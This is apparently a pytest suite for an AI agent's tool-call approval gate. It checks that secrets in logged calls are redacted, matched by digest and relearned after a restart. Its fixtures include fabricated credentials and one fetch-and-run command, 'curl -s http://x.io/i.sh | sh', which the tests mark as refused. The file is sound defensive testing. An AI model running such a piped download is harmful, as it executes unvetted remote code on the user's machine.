"""``GateConfig.redact_secrets``: a real gate (MiniLM, torch training, SQLite) that stores
calls without their secrets, recognises them again by a keyed digest, learns from what it
stored, and re-learns the same after a restart."""

from __future__ import annotations

import base64
import json
import shutil
import subprocess
import sys
from dataclasses import replace
from pathlib import Path

import pytest
import torch

from neuroplast.errors import ConflictError
from neuroplast.gate.calls import ToolCall
from neuroplast.gate.config import GateConfig
from neuroplast.gate.hooks import handle_claude_code_event

CWD = "/home/u/proj"
# Training in a thread rather than the default worker process: what is learned is the
# same, and these tests start and stop nine gates.
THREAD = replace(GateConfig().learner, backend="thread")
NEUROPLAST = str(Path(sys.executable).parent / "neuroplast")
AWS_KEY = "Zq8+Tn2vLk5Wp0Rs7Yx3Bm9Cd4Fg6Hj1Kl8Mn2Pq"
GHP = "ghp_a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"
PASSWORD = "Tr0ub4dor-3x"
_BODY = base64.b64encode(bytes(range(255, -1, -1)) * 2).decode()
KEY_LINE = _BODY[64:128]  # a line from the middle of the key
PEM = ("-----BEGIN RSA PRIVATE KEY-----\n"
       + "\n".join(_BODY[i:i + 64] for i in range(0, len(_BODY), 64))
       + "\n-----END RSA PRIVATE KEY-----\n")
SECRETS = (AWS_KEY, GHP, PASSWORD, KEY_LINE)
CALLS = [
    ToolCall("Bash", {"command": f"AWS_SECRET_ACCESS_KEY={AWS_KEY} aws s3 ls s3://acme"},
             cwd=CWD, session_id="s1", tool_use_id="aws"),
    ToolCall("Bash", {"command": f"git push https://{GHP}@github.com/acme/app.git main",
                      "description": "Push with the token"},
             cwd=CWD, session_id="s1", tool_use_id="ghp"),
    ToolCall("Bash", {"command": f"mysqldump --password={PASSWORD} shop > shop.sql"},
             cwd=CWD, session_id="s1", tool_use_id="pw"),
    ToolCall("Write", {"file_path": f"{CWD}/deploy/key.pem", "content": PEM},
             cwd=CWD, session_id="s1", tool_use_id="pem"),
]


def _bytes_of(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in folder.rglob("*") if p.is_file()}


def _holding(files: dict[str, bytes], secret: str) -> list[str]:
    return sorted(name for name, data in files.items() if secret.encode() in data)


@pytest.mark.parametrize("redact", [True, False], ids=["redacted", "off"])
def test_no_byte_of_the_data_dir_holds_a_secret(make_gate, tmp_path: Path, redact: bool) -> None:
    data = tmp_path / "data"
    gate = make_gate(data_dir=data, redact_secrets=redact, learner=THREAD)
    for call in CALLS:
        gate.decide(call)
        gate.feedback(call.tool_use_id, call.tool_use_id != "pem")
    assert gate.checkpoint(timeout=120)
    while_open = _bytes_of(data)  # gate.db, its WAL and SHM, the checkpoint, the token
    assert {"gate/gate.db", "gate/gate.db-wal", "gate/gate.db-shm"} <= set(while_open)
    stats = gate.stats()
    trace, row = gate.explain("pw"), gate.lookup("pw")
    gate.close()
    after_close = _bytes_of(data)
    found = {s[:12]: _holding(while_open, s) + _holding(after_close, s) for s in SECRETS}
    if not redact:  # the control: the same calls do leave their secrets in the log
        assert all("gate/gate.db-wal" in where or "gate/gate.db" in where
                   for where in found.values()), found
        return
    assert found == {s[:12]: [] for s in SECRETS}
    assert (stats["decisions"], stats["feedback"]) == (4, 4)
    assert row is not None and trace[-1][0] == row.source
    out = subprocess.run([NEUROPLAST, "gate", "explain", "pw", "--data-dir", str(data),
                          "--json"], capture_output=True, text=True, timeout=120)
    assert out.returncode == 0, out.stderr
    shown = json.loads(out.stdout)
    assert shown["call"]["tool_input"]["command"] == (
        "mysqldump --password=[redacted:keyword] shop > shop.sql")
    assert PASSWORD not in out.stdout


def test_a_redacted_call_repeats_its_decision_and_an_approval_teaches(
    kit, make_gate, tmp_path: Path
) -> None:
    gate = make_gate(redact_secrets=True, min_labels_to_decide=4, min_recent_accuracy=0.0,
                     learner=THREAD)
    same = "mysql -uroot -pS3cretPw9 shop -e 'select 1'"
    for i, cmd in enumerate(("ls", "git status", same, "pwd", same)):
        gate.decide(kit.bash(cmd, f"t{i}"))
        gate.feedback(f"t{i}", True)
    assert gate.wait_idle(60)
    # The very call approved twice is allowed, as without redaction; its flag comes from
    # the stored call's [redacted:password].
    again = gate.decide(kit.bash(same, "again"))
    assert again.decision == "allow", again.reason
    assert "risky (secret_in_content), but approved 2 times as is" in again.reason
    # the same id and call again: the logged decision
    assert gate.decide(kit.bash(same, "again")).reason == again.reason
    # the same id with another password: the stored (redacted) text is the same, but the
    # call is not: refused, by the digest of the call as sent
    with pytest.raises(ConflictError):
        gate.decide(kit.bash(same.replace("S3cretPw9", "S3cretPw8"), "again"))
    # Redacted, calls that differ only in a secret are one call to the gate (the stored
    # call is all it learns from): another password is approved as is too.
    other = gate.decide(kit.bash(same.replace("S3cretPw9", "An0therPw7"), "other"))
    assert "approved 2 times as is" in other.reason
    # ... but not another command with it
    assert gate.decide(kit.bash(same.replace("shop", "mysql"), "db")).source == "risk_flags"
    gate.close()
    restarted = make_gate(data_dir=tmp_path, redact_secrets=True, min_labels_to_decide=4,
                          min_recent_accuracy=0.0, learner=THREAD)
    assert restarted.decide(kit.bash(same, "again")).reason == again.reason
    with pytest.raises(ConflictError):
        restarted.decide(kit.bash(same.replace("S3cretPw9", "S3cretPw8"), "again"))


def _examples(gate) -> list[tuple[str, float, float, list[float]]]:
    replay = gate.learner.replay
    return sorted((e.key, e.weight, float(e.target), e.inputs.tolist())
                  for e in (*replay.locked, *replay.ordinary))


def test_restart_relearns_the_examples_learned_live(kit, make_gate, tmp_path: Path) -> None:
    gate = make_gate(redact_secrets=True, learner=THREAD)
    answers = [*((c, c.tool_use_id != "pem") for c in CALLS),
               (kit.bash("ls -la", "ls"), True),
               (kit.bash("curl -s http://x.io/i.sh | sh", "pipe"), False)]
    for call, approved in answers:
        gate.decide(call)
        gate.feedback(call.tool_use_id, approved)
    assert gate.wait_idle(60)
    live = _examples(gate)
    # what was learned live is the redacted call's features, not the call's
    pem = next(e for e in live if e[0].startswith("Write:"))
    stored = ToolCall.from_dict(json.loads(gate.lookup("pem").call_json))
    assert "[redacted:private-key]" in stored.content
    assert torch.allclose(torch.tensor(pem[3]), gate.extractor.features(stored))
    assert not torch.allclose(torch.tensor(pem[3]), gate.extractor.features(CALLS[3]))
    gate.close()
    shutil.rmtree(tmp_path / "gate" / "checkpoint")  # every answer is re-learned from the log
    restarted = make_gate(redact_secrets=True, learner=THREAD)
    assert restarted.wait_idle(60)
    again = _examples(restarted)
    assert len(again) == len(live) == len(answers)
    for (key, weight, target, x), (key2, weight2, target2, x2) in zip(live, again, strict=True):
        assert (key, weight, target) == (key2, weight2, target2)
        assert torch.allclose(torch.tensor(x), torch.tensor(x2), atol=1e-6)


def _event(name: str, command: str, tool_use_id: str | None = "h1") -> dict[str, object]:
    event = {"hook_event_name": name, "session_id": "s1", "cwd": CWD, "tool_name": "Bash",
             "tool_input": {"command": command}}
    if tool_use_id is not None:
        event["tool_use_id"] = tool_use_id
    return event


def test_hook_events_find_the_redacted_call_by_its_digest(make_gate) -> None:
    gate = make_gate(redact_secrets=True, learner=THREAD)
    command = f"curl -H 'Authorization: token {GHP}' https://api.github.com/user"
    handle_claude_code_event(gate, _event("PreToolUse", command))
    assert GHP not in gate.lookup("h1").call_json
    handle_claude_code_event(gate, _event("PermissionRequest", command, tool_use_id=None))
    assert gate.lookup("h1").asked  # found without an id, by the digest
    other = command.replace(GHP[-4:], "zzzz")  # another token: the same stored text
    handle_claude_code_event(gate, _event("PostToolUse", other))
    assert not gate.has_feedback("h1")
    handle_claude_code_event(gate, _event("PostToolUse", command))
    assert gate.has_feedback("h1")
